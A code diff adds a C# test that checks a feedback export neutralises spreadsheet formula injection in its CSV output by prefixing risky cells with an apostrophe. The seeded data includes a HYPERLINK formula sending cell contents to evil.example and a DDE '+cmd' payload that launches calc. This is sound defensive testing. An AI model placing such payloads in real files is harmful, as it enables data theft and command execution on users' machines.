@@ -60,4 +60,48 @@ public sealed class FeedbackExportTests(PostgresDatabase db) : IClassFixture<Pos
         var bad = await client.GetAsync("/api/feedback/export?repository=bad", ct);
         await TasksApiTests.AssertProblemAsync(bad, HttpStatusCode.BadRequest, "repository");
     }
+
+    [Fact]
+    public async Task Csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe_and_ndjson_keeps_them()
+    {
+        var ct = TestContext.Current.CancellationToken;
+        var t0 = DateTimeOffset.UtcNow.AddDays(-1);
+        var task = await db.TaskAsync("Acme/Formulas", t0, pr: 7);
+        const string rule = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+        await db.ExecuteAsync($"""
+            insert into review_comments (kind, github_comment_id, task_id, file, line, created_at, rule, category, severity, fingerprint, resolved_by)
+            values ('inline', 99001, '{task}', E'\tsrc/a.cs', 3, '{t0:O}', '{rule.Replace("'", "''")}', '+cmd|'' /C calc''!A0', '-2+3', '@SUM(1+1)', E'\rmallory');
+            insert into review_feedback (kind, github_comment_id, reactor_id, reactor_login, content, reacted_at)
+            values ('inline', 99001, 4, '=1+2', '-1', '{t0:O}'), ('inline', 99001, 5, 'plain-login', '+1', '{t0:O}');
+            """);
+
+        await using var app = new AppFactory(db.ConnectionString);
+        var client = await app.WithKeyAsync(db, Scopes.ReviewRead);
+        var csv = InsightsApiTests.ParseCsv(await client.GetStringAsync("/api/feedback/export?repository=acme/formulas&format=csv", ct));
+        var header = csv[0];
+        var rows = csv.Skip(1).ToDictionary(r => r[header.IndexOf("reactor_id")]);
+        string Cell(string reactor, string name) => rows[reactor][header.IndexOf(name)];
+
+        Assert.Equal("'" + rule, Cell("4", "rule"));
+        Assert.Equal("'+cmd|' /C calc'!A0", Cell("4", "category"));
+        Assert.Equal("'-2+3", Cell("4", "severity"));
+        Assert.Equal("'@SUM(1+1)", Cell("4", "fingerprint"));
+        Assert.Equal("'\tsrc/a.cs", Cell("4", "file"));
+        Assert.Equal("'\rmallory", Cell("4", "resolved_by"));
+        Assert.Equal("'=1+2", Cell("4", "reactor_login"));
+        Assert.Equal("plain-login", Cell("5", "reactor_login"));
+        // Values of our own closed sets and numbers are written as they are.
+        Assert.Equal("-1", Cell("4", "content"));
+        Assert.Equal("+1", Cell("5", "content"));
+        Assert.Equal("99001", Cell("4", "github_comment_id"));
+        Assert.Equal("3", Cell("4", "line"));
+        Assert.Equal("7", Cell("4", "pr_number"));
+
+        var ndjson = (await client.GetStringAsync("/api/feedback/export?repository=acme/formulas", ct))
+            .Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
+        var row = ndjson.Single(r => r.GetProperty("reactor_id").GetInt64() == 4);
+        Assert.Equal(rule, row.GetProperty("rule").GetString());
+        Assert.Equal("=1+2", row.GetProperty("reactor_login").GetString());
+        Assert.Equal("\tsrc/a.cs", row.GetProperty("file").GetString());
+    }
 }
